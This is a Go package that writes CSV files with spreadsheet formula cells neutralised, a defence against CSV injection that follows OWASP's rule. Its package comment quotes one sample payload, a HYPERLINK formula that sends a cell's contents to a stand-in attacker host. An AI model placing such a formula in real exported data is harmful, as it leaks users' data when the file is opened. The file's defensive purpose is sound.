// Package csvexport writes CSV (RFC 4180) for people to open in
// spreadsheets, with every cell that a spreadsheet would run as a formula
// neutralised. Exported cells carry text that callers chose (model names,
// endpoints, object names, audit changes), and a cell such as
// =HYPERLINK("https://evil.example/?"&A1) runs when the file is opened.
//
// The rule is OWASP's for CSV injection: a cell that begins with =, +, -,
// @, a tab or a carriage return is prefixed with a single quote, which
// spreadsheets show as text and do not display. Cells that are plain
// numbers (-12, +3.5) are left as they are.
package csvexport

import (
	"encoding/csv"
	"io"
	"strconv"
)

// Writer is a [csv.Writer] that neutralises formula cells.
type Writer struct {
	w      *csv.Writer
	buffer []string
}

// NewWriter writes CSV to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, its formula cells neutralised; record itself is
// left unchanged.
func (w *Writer) Write(record []string) error {
	w.buffer = w.buffer[:0]
	for _, cell := range record {
		w.buffer = append(w.buffer, Cell(cell))
	}
	return w.w.Write(w.buffer)
}

// Flush writes buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports an error from a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }

// Cell is cell as it is safe to export: prefixed with ' when a spreadsheet
// would read it as a formula.
func Cell(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if _, err := strconv.ParseFloat(cell, 64); err == nil && cell[0] != '=' && cell[0] != '@' {
			return cell // a signed number
		}
		return "'" + cell
	}
	return cell
}
